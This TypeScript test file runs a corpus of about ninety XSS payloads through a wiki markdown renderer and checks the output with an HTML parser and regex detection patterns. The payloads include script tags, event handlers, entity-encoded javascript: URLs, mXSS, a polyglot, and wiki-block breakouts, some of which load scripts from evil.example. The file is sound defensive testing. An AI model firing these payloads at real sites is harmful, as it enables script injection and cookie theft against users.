/**
 * Security corpus: no payload may leave anything that runs script in the rendered HTML. Each
 * output is checked twice: by parsing it as a browser would (parse5, the HTML spec's parser)
 * and walking every element and attribute, and by plain string checks on the markup.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'parse5';
import type { DefaultTreeAdapterMap } from 'parse5';
import { renderMarkdown } from './index.ts';
import type { RenderOptions } from './types.ts';

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

const OPTIONS: RenderOptions = {
  pageExists: (name) => name === 'Home',
  linkHref: (name) => `/${encodeURI(name.replace(/ /g, '_'))}`,
};

/** A careless wiki that puts the page name into the href as it is. */
const NAIVE: RenderOptions = { pageExists: () => true, linkHref: (name) => name };

/** Both, rendering a page that `./` links resolve under (the careless one builds attachment URLs as carelessly). */
const ON_A_PAGE: readonly RenderOptions[] = [
  { ...OPTIONS, currentPage: 'Notes/Trip' },
  { ...NAIVE, currentPage: 'Notes/Trip', attachmentHref: (page, file) => `${page}/a/${file}` },
];

const ALLOWED_TAGS = new Set([
  'html', 'head', 'body', 'a', 'abbr', 'b', 'blockquote', 'br', 'caption', 'cite', 'code', 'col',
  'colgroup', 'dd', 'del', 'details', 'div', 'dl', 'dt', 'em', 'figcaption', 'figure', 'h1', 'h2',
  'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'input', 'ins', 'kbd', 'li', 'mark', 'ol', 'p', 'pre',
  'q', 'rp', 'rt', 'ruby', 's', 'samp', 'section', 'small', 'span', 'strike', 'strong', 'sub',
  'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr', 'u', 'ul', 'var', 'wbr',
]);
const ALLOWED_ATTRIBUTES = new Set([
  'class', 'id', 'title', 'href', 'rel', 'src', 'alt', 'width', 'height', 'start', 'align', 'colspan',
  'rowspan', 'span', 'open', 'type', 'disabled', 'checked',
]);
const URL_ATTRIBUTES = new Set(['href', 'src']);
const FORBIDDEN_TAG = /<\/?(?:script|iframe|frame|frameset|svg|math|object|embed|applet|style|link|meta|base|form|button|select|textarea|template|noscript|xmp|plaintext|isindex|video|audio|source|marquee|body|html)\b/i;

function isElement(node: Node): node is Element {
  return 'tagName' in node;
}

/** Everything in `html` a browser could run, as a list of problems (empty when safe). */
export function scriptProblems(html: string): string[] {
  const problems: string[] = [];
  const visit = (node: Node): void => {
    if (isElement(node)) {
      const tag = node.tagName;
      if (!ALLOWED_TAGS.has(tag)) problems.push(`element <${tag}>`);
      for (const { name, value } of node.attrs) {
        if (!ALLOWED_ATTRIBUTES.has(name)) problems.push(`attribute ${name} on <${tag}>`);
        if (URL_ATTRIBUTES.has(name)) {
          const url = value.replace(/[\x00-\x20\x7f]/g, '').toLowerCase();
          const scheme = /^([^/?#]*?):/.exec(url)?.[1];
          if (scheme !== undefined && !['http', 'https', 'mailto'].includes(scheme)) problems.push(`${name}="${value}"`);
        }
      }
      if (tag === 'input') {
        const attrs = Object.fromEntries(node.attrs.map((a) => [a.name, a.value]));
        if (attrs['type'] !== 'checkbox' || !('disabled' in attrs)) problems.push('an input that is not a disabled checkbox');
      }
    }
    if ('childNodes' in node) node.childNodes.forEach(visit);
    if (isElement(node) && node.tagName === 'template') problems.push('template content');
  };
  visit(parse(`<!doctype html><body>${html}`));

  if (FORBIDDEN_TAG.test(html)) problems.push(`forbidden tag text ${FORBIDDEN_TAG.exec(html)?.[0]}`);
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    if (/\son\w+\s*=/i.test(tag)) problems.push(`event handler in ${tag}`);
    if (/(?:java|vb)script\s*:|data\s*:|livescript:/i.test(tag)) problems.push(`script URL in ${tag}`);
    if (/\s(?:style|srcdoc|formaction|action|srcset|background|xlink:href)\s*=/i.test(tag)) problems.push(`dangerous attribute in ${tag}`);
    if (/&#0*(?:106|74|x0*6a);|&colon;|&tab;|&newline;/i.test(tag) && !/^<[^>]*(?:class|id|title|alt)=/i.test(tag)) problems.push(`encoded URL trick in ${tag}`);
  }
  return problems;
}

const PAYLOADS: readonly (readonly [string, string])[] = [
  // Script elements
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, upper case with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script in a paragraph', 'Hello <script>alert(document.cookie)</script> world'],
  ['unclosed script', 'text\n\n<script>alert(1)'],
  ['double open bracket', '<<script>alert(1);//<</script>'],
  // Event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, quoted, self-closed', '<img src="x" onerror="alert(1)" />'],
  ['img onerror after slash', '<img/src="x"/onerror=alert(1)>'],
  ['img onerror with tabs and newlines', '<img\tsrc=x\nonerror\n=\nalert(1)>'],
  ['img onerror glued to the previous attribute', '<img src="x"onerror="alert(1)">'],
  ['div onclick', '<div onclick="alert(1)">click</div>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>x</details>'],
  ['a onmouseover', '<a href="https://example.com" onmouseover="alert(1)">x</a>'],
  ['body onload', '<body onload=alert(1)>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['custom element handler', '<x-foo onclick=alert(1)>x</x-foo>'],
  ['video and audio handlers', '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  // javascript:, vbscript:, data: URLs
  ['a javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['img javascript:, mixed case', '<IMG SRC=JaVaScRiPt:alert(1)>'],
  ['decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['padded decimal entities without semicolons', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ['hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['tab inside the scheme', '<a href="jav\tascript:alert(1)">x</a>'],
  ['encoded tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['named tab and colon entities', '<a href="java&Tab;script&colon;alert(1)">x</a>'],
  ['encoded newline inside the scheme', '<img src="jav&#x0A;ascript:alert(1)">'],
  ['leading control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['markdown link javascript:', '[click](javascript:alert(1))'],
  ['markdown link, upper case and entity colon', '[a](JAVASCRIPT:alert(1)) [b](javascript&#58;alert(1)) [c](&#x6A;avascript:alert(1))'],
  ['markdown link in angle brackets', '[x](<javascript:alert(1)>)'],
  ['markdown image javascript: and data:', '![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>)'],
  ['markdown reference link', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['autolink javascript:', '<javascript:alert(1)>'],
  ['markdown link vbscript and data', '[v](vbscript:msgbox(1)) [d](data:text/html,<script>alert(1)</script>)'],
  // SVG, MathML, frames, objects, forms
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg with slash', '<svg/onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>'],
  ['mathml mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ['form action', '<form action="javascript:alert(1)"><input type=submit><button formaction=javascript:alert(1)>b</button></form>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  // Style and document-level tricks
  ['style attribute url()', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['style attribute expression()', '<p style="width: expression(alert(1))">x</p>'],
  ['style element', '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>'],
  ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['srcset', '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">'],
  // Broken and unclosed markup
  ['unclosed img', '<img src=x onerror=alert(1)//'],
  ['unclosed attribute quote', '<a href="https://example.com" title="x onmouseover=alert(1)//>y</a>'],
  ['comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['textarea breakout', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['title breakout', '<title><img src=x onerror=alert(1)></title>'],
  ['polyglot', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e'],
  ['attribute-less quote confusion', '<img alt=a\'>\' onerror=alert(1)>'],
  // Wikilinks
  ['wikilink to javascript:', '[[javascript:alert(1)]]'],
  ['wikilink title with html', '[[<img src=x onerror=alert(1)>|Home]]'],
  ['wikilink target with quotes', '[[x|"><script>alert(1)</script>]]'],
  ['wikilink fragment with html', '[[Home#"><img src=x onerror=alert(1)>]]'],
  ['wikilink title with javascript: markdown link', '[[[x](javascript:alert(1))|Home]]'],
  // Wiki blocks
  ['fancy block name', '::: info" onclick="alert(1)\nbody\n:::'],
  ['fancy block heading', '::: warning\n# <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n:::'],
  ['spoiler body', '>! <script>alert(1)</script>\n>! <img src=x onerror=alert(1)> [x](javascript:alert(1))'],
  ['spoiler closing the details early', '>! </div></details><img src=x onerror=alert(1)>\n>! <details open ontoggle=alert(1)>'],
  ['fold summary', '>| # <img src=x onerror=alert(1)></summary><script>alert(1)</script>\n>| body'],
  ['fold body', '>| # Summary\n>| <svg onload=alert(1)>\n>| ![a](javascript:alert(1))'],
  ['relative link and image escaping the page', '[a](./../../../../javascript:alert(1)) ![b](./%2e%2e/%2e%2e/x.png) [c](./..\\..\\x)'],
  ['relative link with a scheme-like segment', '[a](./javascript:alert(1)) ![b](./data:image/svg+xml,<svg/onload=alert(1)>)'],
  ['github alert body', '> [!NOTE]\n> <script>alert(1)</script>\n> <img src=x onerror=alert(1)>'],
  ['inline math', '$<img src=x onerror=alert(1)>$ and `$<script>alert(1)</script>$`'],
  ['display math', '$$</div><script>alert(1)</script>$$\n\n$$\n<img src=x onerror=alert(1)>\n$$'],
  ['math fence', '```math\n<script>alert(1)</script>\n</div><img src=x onerror=alert(1)>\n```'],
  ['mermaid fence', '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"] --> B\n</pre><script>alert(1)</script>\n```'],
  ['code info string', '```"><script>alert(1)</script>\ncode\n```\n\n```js onload=alert(1)\nx\n```'],
  ['footnotes', 'x[^a]\n\n[^a]: <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n[^b" onclick="alert(1)]: y'],
  ['abbreviation title', '*[HTML]: " onmouseover="alert(1)\n\nHTML'],
  ['table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
  ['task list item', '- [ ] <img src=x onerror=alert(1)>\n- [x] <input type=text onfocus=alert(1) autofocus>'],
  ['heading', '# <img src=x onerror=alert(1)>'],
  ['frontmatter', '---\ntitle: <script>alert(1)</script>\nx: </pre></details><img src=x onerror=alert(1)>\n---\nbody'],
  ['frontmatter that is not YAML', '---\n</pre><script>alert(1)</script>: [\n---\n'],
];

describe('XSS corpus', () => {
  it('has at least 40 payloads', () => {
    assert.ok(PAYLOADS.length >= 40, `${PAYLOADS.length} payloads`);
  });

  for (const [name, payload] of PAYLOADS) {
    it(`neutralises: ${name}`, () => {
      for (const options of [OPTIONS, NAIVE, ...ON_A_PAGE]) {
        const { html } = renderMarkdown(payload, options);
        assert.deepEqual(scriptProblems(html), [], `${payload}\n→ ${html}`);
      }
    });
  }

  it('the checker itself catches what it should', () => {
    assert.ok(scriptProblems('<img src=x onerror=alert(1)>').length > 0);
    assert.ok(scriptProblems('<a href="java&#x09;script:alert(1)">x</a>').length > 0);
    assert.ok(scriptProblems('<svg></svg>').length > 0);
    assert.ok(scriptProblems('<p style="x">y</p>').length > 0);
    assert.deepEqual(scriptProblems('<p><a href="/x" class="wikilink">x</a></p>'), []);
  });
});
